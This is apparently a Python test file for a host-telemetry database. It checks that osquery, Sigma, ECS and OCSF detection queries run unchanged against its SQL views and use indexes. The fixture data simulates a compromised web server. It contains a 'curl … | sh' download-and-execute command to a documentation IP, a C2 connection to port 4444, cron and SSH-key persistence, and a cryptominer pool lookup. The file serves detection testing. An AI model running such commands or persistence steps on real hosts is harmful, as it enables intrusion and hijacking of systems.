# SPDX-License-Identifier: GPL-3.0-or-later
"""The views with other people's names: queries as their communities write them, run unchanged."""
import glob
import os
import re

# What is behind each: a shell under a web server in /tmp, its download, its listener, its names.
ROWS = """
INSERT INTO hosts (id, hostname, machine_id, boot_id, booted_at) VALUES (1, 'web', 'm', 'b', 1000000000);
INSERT INTO processes (id, host_id, pid, ppid, parent_id, trace_id, started_at, origin, comm, exe,
                       cmdline, user, uid, login_uid, audit_session, sid) VALUES
    (1, 1, 80, 1, NULL, 1, 2000000000, 'event', 'nginx', '/usr/sbin/nginx', 'nginx: worker',
     'www-data', 33, NULL, NULL, 80),
    (2, 1, 81, 80, 1, 1, 3000000000, 'event', 'x', '/tmp/x', '/tmp/x', 'www-data', 33, 1000, 7, 81);
INSERT INTO execs (id, process_id, at, filename, exe, argv, argc, argv_length, cwd, uid, euid, error,
                   environment) VALUES
    (1, 2, 4000000000, '/bin/sh', '/usr/bin/dash', '["sh","-c","curl -s http://198.51.100.9/x|sh"]',
     3, 40, '/var/www', 33, 33, NULL, '{"LD_PRELOAD":"/tmp/l.so"}'),
    (2, 2, 5000000000, '/nowhere', NULL, '["nowhere"]', 1, 8, '/var/www', 33, 33, 'ENOENT', NULL),
    (3, 2, 6000000000, '/tmp/x', '/tmp/x', '["/tmp/x","-d"]', 2, 10, '/tmp', 33, 33, NULL, NULL);
INSERT INTO connections (id, host_id, process_id, protocol, direction, local_address, local_port,
                         remote_address, remote_port, remote_name, started_at, state, origin,
                         bytes_sent, bytes_received, error) VALUES
    (1, 1, 2, 'tcp', 'out', '10.0.0.4', 40112, '198.51.100.9', 4444, 'c2.example', 7000000000, 'open',
     'event', 10, 2000, NULL),
    (2, 1, 1, 'tcp', 'in', '10.0.0.4', 80, '203.0.113.5', 50522, NULL, 8000000000, 'closed', 'event',
     5, 6, NULL),
    (3, 1, 2, 'tcp', 'out', '2001:db8::1', 40113, '2001:db8::2', 443, NULL, 9000000000, 'refused',
     'event', 0, 0, 'ECONNREFUSED');
INSERT INTO listeners (id, host_id, process_id, protocol, address, port, started_at, ended_at, origin)
VALUES (1, 1, 2, 'tcp', '0.0.0.0', 31337, 10000000000, NULL, 'event'),
       (2, 1, 2, 'udp', '::', 53, 10000000000, 11000000000, 'event');
INSERT INTO files (id, host_id, process_id, at, op, path, old_path, mode, size) VALUES
    (1, 1, 2, 12000000000, 'write', '/etc/cron.d/x', NULL, 33188, 5),
    (2, 1, 2, 13000000000, 'unlink', '/tmp/y', NULL, NULL, NULL),
    (3, 1, 2, 14000000000, 'rename', '/root/.ssh/authorized_keys', '/tmp/k', NULL, NULL);
INSERT INTO dns_queries (id, host_id, process_id, at, name, type, server, rcode, answers) VALUES
    (1, 1, 2, 15000000000, 'pool.supportxmr.com', 'A', '9.9.9.9', 'NOERROR', '["198.51.100.9"]');
INSERT INTO flags (id, host_id, at, rule, severity, title, techniques, process_id, detail) VALUES
    (1, 1, 16000000000, 'r', 'high', 'Title', '["T1059"]', 2, 'd');
"""

# A query as published, or as a converter makes it from a rule, and its rows.
QUERIES = [
    # osquery: packs for incident response, and joins of the tables of events.
    ("SELECT pid, path, cmdline, auid, uid, time FROM process_events WHERE path LIKE '/tmp/%'",
     [(81, "/tmp/x", "/tmp/x -d", 1000, 33, 6)]),
    ("SELECT pe.pid, pe.path, pe.cmdline, se.remote_address, se.remote_port FROM process_events pe "
     "JOIN socket_events se ON pe.pid = se.pid WHERE se.action = 'connect' AND "
     "se.remote_port NOT IN (80, 443) AND pe.path = '/tmp/x'",
     [(81, "/tmp/x", "/tmp/x -d", "198.51.100.9", 4444)]),
    ("SELECT action, path, family, protocol, local_address, local_port, status, success FROM "
     "socket_events WHERE action <> 'connect' ORDER BY time, local_port",
     [("accept", "/usr/sbin/nginx", 2, 6, "10.0.0.4", 80, "succeeded", 1),
      ("bind", "/tmp/x", 10, 17, "::", 53, "succeeded", 1),
      ("bind", "/tmp/x", 2, 6, "0.0.0.0", 31337, "succeeded", 1)]),
    ("SELECT env, env_count, uptime, status FROM process_events WHERE env LIKE '%LD_PRELOAD%'",
     [('{"LD_PRELOAD":"/tmp/l.so"}', 1, 3, "succeeded")]),
    ("SELECT DISTINCT p.comm, lp.port, p.pid FROM listening_ports AS lp JOIN processes AS p "
     "USING (pid) WHERE lp.address = '0.0.0.0'", [("x", 31337, 81)]),
    ("SELECT path, cmdline, exit_code, syscall FROM bpf_process_events WHERE exit_code <> '0'",
     [("/nowhere", "nowhere", "ENOENT", "execve")]),
    ("SELECT s.remote_address, s.type, s.exit_code, p.cmdline FROM bpf_socket_events s LEFT JOIN "
     "bpf_process_events p ON s.pid = p.pid AND p.path = s.path WHERE s.syscall = 'connect' AND "
     "s.family = 10", [("2001:db8::2", 1, "ECONNREFUSED", "/tmp/x -d")]),
    # Sigma, as converters for SQLite write it.
    (r"SELECT * FROM (SELECT Image, ParentImage, User, LogonId, CurrentDirectory FROM "
     r"sigma_process_creation WHERE (Image LIKE '%/sh' ESCAPE '\' OR Image LIKE '%/dash' ESCAPE '\') "
     r"AND (ParentImage LIKE '%/nginx' ESCAPE '\' OR ParentImage LIKE '%/httpd' ESCAPE '\'))",
     [("/usr/bin/dash", "/usr/sbin/nginx", "www-data", 7, "/var/www")]),
    (r"SELECT ProcessId FROM sigma_process_creation WHERE (CommandLine LIKE '%curl %' ESCAPE '\' OR "
     r"CommandLine LIKE '%wget %' ESCAPE '\') AND CommandLine LIKE '%|sh%' ESCAPE '\' AND NOT "
     r"(ParentCommandLine LIKE '%apt-get%' ESCAPE '\')", [(81,)]),
    ("SELECT Image, UtcTime FROM sigma_process_creation WHERE Image REGEXP '^/(tmp|dev/shm)/.*'",
     [("/tmp/x", "1970-01-01 00:00:06.000")]),
    ("SELECT count(*) FROM sigma_process_creation WHERE ParentProcessId=80 AND User='www-data'", [(2,)]),
    (r"SELECT Image, DestinationHostname FROM sigma_network_connection WHERE Initiated='true' AND "
     r"DestinationPort=4444 AND NOT (DestinationIp LIKE '10.%' ESCAPE '\' OR DestinationIp LIKE "
     r"'127.%' ESCAPE '\')", [("/tmp/x", "c2.example")]),
    ("SELECT DestinationIp FROM sigma_network_connection WHERE DestinationPort='4444'",
     [("198.51.100.9",)]),
    ("SELECT SourceIp, SourcePort, DestinationPort, Protocol FROM sigma_network_connection WHERE "
     "Initiated='false'", [("203.0.113.5", 50522, 80, "tcp")]),
    (r"SELECT TargetFilename, SourceFilename, Image FROM sigma_file_event WHERE TargetFilename LIKE "
     r"'/etc/cron%' ESCAPE '\' OR TargetFilename LIKE '%/.ssh/authorized\_keys' ESCAPE '\'",
     [("/etc/cron.d/x", None, "/tmp/x"), ("/root/.ssh/authorized_keys", "/tmp/k", "/tmp/x")]),
    ("SELECT count(*) FROM sigma_file_event", [(2,)]),
    (r"SELECT QueryName, QueryStatus FROM sigma_dns_query WHERE QueryName LIKE '%.supportxmr.com' "
     r"ESCAPE '\' AND Image IS NOT NULL", [("pool.supportxmr.com", "NOERROR")]),
    # ECS and OCSF.
    ('SELECT "process.parent.executable", "process.args", "event.outcome", "host.name" FROM '
     'ecs_process WHERE "process.executable" = \'/tmp/x\'',
     [("/usr/sbin/nginx", '["/tmp/x","-d"]', "success", "web")]),
    ('SELECT "source.ip", "destination.ip", "destination.domain", "network.direction", '
     '"source.bytes" FROM ecs_network ORDER BY "event.id"',
     [("10.0.0.4", "198.51.100.9", "c2.example", "egress", 10),
      ("203.0.113.5", "10.0.0.4", None, "ingress", 6),
      ("2001:db8::1", "2001:db8::2", None, "egress", 0)]),
    ('SELECT "file.path", "event.type", "file.mode" FROM ecs_file WHERE "event.type" <> \'change\'',
     [("/etc/cron.d/x", "creation", "0644"), ("/tmp/y", "deletion", None)]),
    ('SELECT "dns.question.name", "@timestamp" FROM ecs_dns',
     [("pool.supportxmr.com", "1970-01-01T00:00:15.000Z")]),
    ('SELECT "rule.id", "event.severity", "process.pid" FROM ecs_alert', [("r", 73, 81)]),
    ('SELECT type_uid, time, "actor.process.pid", "process.cmd_line" FROM ocsf_process_activity '
     'WHERE status_id = 2', [(100701, 5000, 80, "nowhere")]),
    ('SELECT activity_id, "dst_endpoint.port", "connection_info.direction_id" FROM '
     'ocsf_network_activity WHERE "src_endpoint.ip" = \'203.0.113.5\'', [(1, 80, 1)]),
    ('SELECT activity_id FROM ocsf_file_activity ORDER BY time', [(3,), (4,), (5,)]),
    ('SELECT "query.hostname", rcode FROM ocsf_dns_activity', [("pool.supportxmr.com", "NOERROR")]),
    ('SELECT severity_id, "finding_info.title" FROM ocsf_detection_finding', [(4, "Title")]),
]

# What must be found by an index, and the first table that the plan may go through.
INDEXED = [
    ("process_events", "pid = 5", "processes_by_pid"),
    ("process_events", "at > 5", "execs_by_time"),
    ("bpf_process_events", "ntime > 5", "execs_by_time"),
    ("socket_events", "pid = 5", "processes_by_pid"),
    ("listening_ports", "port = 22", "listeners_"),
    ("sigma_process_creation", "Image = '/bin/sh'", "execs_by_exe"),
    ("sigma_process_creation", "at > 5", "execs_by_time"),
    ("sigma_process_creation", "ProcessId = 5", "processes_by_pid"),
    ("sigma_network_connection", "at > 5", "connections_by_start"),
    ("sigma_network_connection", "ProcessId = 5", "processes_by_pid"),
    ("sigma_file_event", "TargetFilename = '/x'", "files_by_path"),
    ("sigma_dns_query", "QueryName = 'x'", "dns_queries_by_name"),
    ("ecs_process", '"process.executable" = \'/x\'', "execs_by_exe"),
    ("ecs_process", '"process.pid" = 5', "processes_by_pid"),
    ("ecs_file", '"file.path" = \'/x\'', "files_by_path"),
    ("ocsf_dns_activity", '"query.hostname" = \'x\'', "dns_queries_by_name"),
]


def text(value):
    return value.decode() if isinstance(value, bytes) else value


def published_queries_run_unchanged(context):
    db = context.connect(context.empty_store("views.db"))
    db.executescript(ROWS)
    for sql, wanted in QUERIES:
        rows = [tuple(text(value) for value in row) for row in db.execute(sql)]
        assert rows == wanted, f"{sql}\n    {rows}\n    instead of\n    {wanted}"
    db.close()


def names_and_times_are_found_by_indexes(context):
    db = context.connect(context.empty_store("indexes.db"))
    for view, where, index in INDEXED:
        plan = [text(row[3]) for row in db.execute(
            f"EXPLAIN QUERY PLAN SELECT * FROM {view} WHERE {where}")]
        assert any(index in step for step in plan), f"{view} WHERE {where}: {plan}"
        scans = [step for step in plan if re.match(r"SCAN \w$", step)]
        assert not scans, f"{view} WHERE {where}: {scans}"
    db.close()


def every_view_is_asked(context):
    del context
    asked = " ".join(sql for sql, _ in QUERIES)
    top = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "sql", "views")
    for name in glob.glob(os.path.join(top, "*.sql")):
        for view in re.findall(r"CREATE VIEW (\w+)", open(name).read()):
            assert re.search(rf"\b{view}\b", asked), f"no query asks {view}"


CHECKS = [("views: published queries", published_queries_run_unchanged),
          ("views: indexes", names_and_times_are_found_by_indexes),
          ("views: all are asked", every_view_is_asked)]
